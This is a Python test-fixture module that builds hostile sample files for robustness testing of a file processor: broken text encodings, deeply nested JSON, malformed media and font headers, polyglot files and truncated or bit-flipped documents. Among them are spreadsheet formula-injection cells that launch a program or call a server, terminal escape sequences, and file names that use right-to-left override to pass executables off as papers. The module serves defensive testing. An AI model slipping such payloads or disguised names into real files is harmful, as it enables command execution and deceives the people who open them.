"""Texts, recordings, fonts, names that lie, files that are two, and sound files that were broken."""

import struct
from collections.abc import Iterator

from tests.evidence.hostile import office, pictures
from tests.evidence.hostile.archives import BIDI, zipped
from tests.evidence.hostile.letters import attached
from tests.evidence.hostile.pdfs import paper
from tests.evidence.hostile.sample import Sample

_PAGE = b"<!doctype html><title>House</title><p>The meeting of the house was moved to May.</p>"
_PROGRAM = b"MZ\x90\x00\x03\x00\x00\x00" + bytes(120)


def samples() -> Iterator[Sample]:
    """Every other hostile file."""
    for made in (_texts, _recordings, _names, _two_in_one):
        for name, (attack, data) in made().items():
            yield Sample(name, attack, data)
    yield from _broken()


def _texts() -> dict[str, tuple[str, bytes]]:
    russian = "Собрание жильцов дома перенесено на 3 мая 2024 года."
    return {
        "nul.txt": ("an end after every letter but the first", b"Words" + b"\x00\x01\x02" * 999),
        "control.txt": ("talks to the terminal", b"\x1b[2J\x1b]0;x\x07" + b"\x01\x02\x03" * 99),
        "every-byte.txt": ("every byte there is", bytes(range(256)) * 99),
        "noise.txt": ("noise", bytes((n * n * 7919 + n) % 256 for n in range(9_999))),
        "cut-letter.txt": ("cut inside a letter", russian.encode() + "ы".encode()[:1]),
        "two-encodings.txt": ("two encodings in one", russian.encode() + russian.encode("cp1251")),
        "overlong.txt": ("letters longer than they may be", b"Words \xc0\xaf\xe0\x80\xaf " + russian.encode("cp1251")),
        "halves.txt": ("halves of letters", b"Words \xed\xa0\x80\xed\xb0\x80 of a paper"),
        "utf16-halves.txt": ("halves of letters in UTF-16", b"\xff\xfe" + "Words".encode("utf-16-le") + b"\x00\xd8" * 99),
        "utf16-odd.txt": ("UTF-16 of an odd number of bytes", b"\xff\xfe" + "Words of a paper".encode("utf-16-le") + b"\x41"),
        "utf32.txt": ("UTF-32 past its end", b"\xff\xfe\x00\x00" + "Words".encode("utf-32-le") + b"\xff\xff\xff\x7f"),
        "cells.csv": ("cells that start a program", b"name,sum\n=cmd|'/c calc'!A0,1\n@SUM(1+9)*cmd|' /C calc'!A0,2\n"),
        "cells-web.csv": ("cells that tell a server", b'name;sum\n=HYPERLINK("http://127.0.0.1/"&A2);1\n+IMPORTXML("http://x";"//a");2\n'),
        "bidi.txt": ("words that turn their reading round", "He was \u202edetsegra ton\u202c on 3 May.".encode()),
        "invisible.txt": ("words with words that nobody sees", ("The order" + "\u200b\u2060\U000e0041" * 50 + " was read.").encode()),
        "deep.json": ("lists 100,000 deep", b"[" * 100_000 + b"]" * 100_000),
        "number.json": ("a number of 300,000 figures", b'{"a":' + b"9" * 300_000 + b"}"),
        "objects.json": ("30,000 objects in one another", b'{"a":' * 30_000 + b"1" + b"}" * 30_000),
    }  # fmt: skip


def _recordings() -> dict[str, tuple[str, bytes]]:
    font = b"\x00\x01\x00\x00\xff\xff" + b"\xff" * 999
    return {
        "length-lie.wav": ("longer than it is", b"RIFF\xff\xff\xff\x7fWAVEfmt \xff\xff\xff\x7f"),
        "cycle.mp4": ("boxes in boxes without end", b"\x00\x00\x00\x18ftypisom\x00\x00\x00\x00isom" + b"\x7f\xff\xff\xffmoov" * 999),
        "zero-box.mp4": ("a box of no size", b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00isom" + bytes(999)),
        "tag-bomb.mp3": ("a tag longer than the file", b"ID3\x04\x00\x00\x7f\x7f\x7f\x7f" + bytes(99)),
        "garbage.ogg": ("garbage", b"OggS" + b"\xff" * 999),
        "deep.webm": ("elements without end", b"\x1aE\xdf\xa3" + b"\x18\x53\x80\x67\x01\xff\xff\xff\xff\xff\xff\xff" * 999),
        "garbage.avi": ("garbage", b"RIFF\xff\xff\xff\x7fAVI " + b"LIST\xff\xff\xff\x7f" * 99),
        "broken.ttf": ("a font of 65,535 tables", font),
        "broken.otf": ("a font of garbage", b"OTTO\xff\xff" + b"\xff" * 999),
        "broken.woff": ("a font packed too tightly", b"wOFF" + struct.pack(">IIHH", 0x4F54544F, 99, 65_535, 0) + b"\xff" * 999),
        "broken.woff2": ("a font packed as nobody packs", b"wOF2" + b"\xff" * 999),
        "database.sqlite": ("a table that is a program", b"SQLite format 3\x00" + b"\xff" * 999),
    }  # fmt: skip


def _names() -> dict[str, tuple[str, bytes]]:
    return {
        BIDI: ("a program that reads as a paper", _PROGRAM),
        "\u202bcod.order.txt": ("a name from right to left", b"Words of a paper."),
        "order\u2066fdp.txt\u2069": ("a name with a turned piece", b"Words of a paper."),
        "order\u200b.txt": ("a name with a letter that nobody sees", b"Words of a paper."),
        "order.pdf.exe": ("a program called a paper", _PROGRAM),
        "order.pdf": ("a program that says it is a paper", _PROGRAM),
        "photo.jpg": ("a page that says it is a picture", _PAGE),
        "scan.png": ("a zip that says it is a picture", zipped({"x.txt": b"words"})),
        "letter.docx": ("a page that says it is a document", _PAGE),
        "video.mp4": ("a program that says it is a film", b"\x7fELF\x02\x01\x01" + bytes(99)),
        "page.html": ("a paper that says it is a page", paper()),
        "note.txt": ("a zip that says it is a text", zipped({"x.txt": b"words"})),
        "list.xlsx": ("a picture that says it is a list", pictures.png(9, 9)),
        "archive.zip": ("a document that says it is an archive", b"{\\rtf1 Words of a paper.}"),
        "letter.eml": ("a picture that says it is a letter", pictures.png(8, 8)),
        "\x1b[2J\x07.txt": ("a name that talks to the terminal", b"Words of a paper."),
        "a\nb.txt": ("a name of two lines", b"Words of a paper."),
    }  # fmt: skip


def _two_in_one() -> dict[str, tuple[str, bytes]]:
    packed = zipped({"inner.exe": _PROGRAM})
    return {
        "two-pdf-zip.pdf": ("a paper and a zip", paper() + packed),
        "two-zip-pdf.pdf": ("a zip in front of a paper", packed + paper()),
        "two-png-zip.png": ("a picture and a zip", pictures.png(9, 9) + packed),
        "two-jpg-zip.jpg": ("a picture and a zip", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + bytes(9) + b"\xff\xd9" + packed),
        "two-gif-page.gif": ("a picture and a page", b"GIF89a/*" + bytes(9) + b"*/=1;" + _PAGE),
        "two-page-zip.html": ("a page and a zip", _PAGE + packed),
        "two-rtf-zip.rtf": ("a document and a zip", b"{\\rtf1 Words of a paper.}" + packed),
        "two-text-pdf.txt": ("a text and a paper", b"Words of a paper.\n" * 99 + paper()),
        "two-text-zip.txt": ("a text and a zip", b"Words of a paper.\n" + packed),
        "two-pdf-page.pdf": ("a page and a paper", _PAGE + paper()),
    }  # fmt: skip


def _broken() -> Iterator[Sample]:
    """Sound files, cut and with flipped bytes in their heads, their middles and their ends."""
    sound = {
        "sound.pdf": paper(),
        "sound.docx": office.docx(office.words(b"Words of a paper.") * 50),
        "sound.zip": zipped({"a.txt": b"words " * 99}),
        "sound.png": pictures.png(40, 40),
        "sound.eml": attached(b"paper.txt", b"V29yZHM="),
    }
    for name, data in sound.items():
        stem, ending = name.split(".")
        for part in (3, 5, 9):
            yield Sample(f"{stem}-cut-{part}.{ending}", f"cut to {part} tenths", data[: len(data) * part // 10])
        for part in (2, 8):
            place = len(data) * part // 10
            flipped = data[:place] + bytes(255 - byte for byte in data[place : place + 40]) + data[place + 40 :]
            yield Sample(f"{stem}-flipped-{part}.{ending}", f"40 bytes turned at {part} tenths", flipped)
